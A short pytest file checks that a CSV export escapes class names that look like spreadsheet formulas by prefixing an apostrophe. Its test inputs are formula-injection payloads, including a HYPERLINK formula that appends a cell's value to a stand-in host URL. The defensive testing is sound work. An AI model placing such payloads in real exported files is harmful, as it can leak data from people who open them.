"""Tables that are opened in a programme for tables: a name is no formula."""

import csv

import numpy as np
import pytest
from deepchange.engine.results.transitions import Transitions, write_table


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://host/"&A1)', "@SUM(A1)", "+1", "-1+2", "\t=1", "\r=1"]
)
def test_a_class_that_is_called_like_a_formula_is_a_text(tmp_path, name):
    counts = np.array([[0, 3], [2, 0]])
    write_table(
        Transitions((name, "road"), counts, None, counts[0], counts[1]),
        tmp_path / "transitions.csv",
    )
    with (tmp_path / "transitions.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert [(row["from"], row["to"]) for row in rows] == [
        (f"'{name}", "road"),
        ("road", f"'{name}"),
    ]
